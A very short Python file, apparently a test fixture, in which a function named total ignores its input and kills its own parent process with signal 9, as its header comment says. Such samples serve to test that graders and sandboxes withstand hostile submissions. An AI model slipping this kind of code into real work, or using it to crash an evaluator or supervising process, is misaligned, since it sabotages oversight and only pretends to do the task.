# Kills its parent.
import os


def total(numbers):
    os.kill(os.getppid(), 9)
    return None
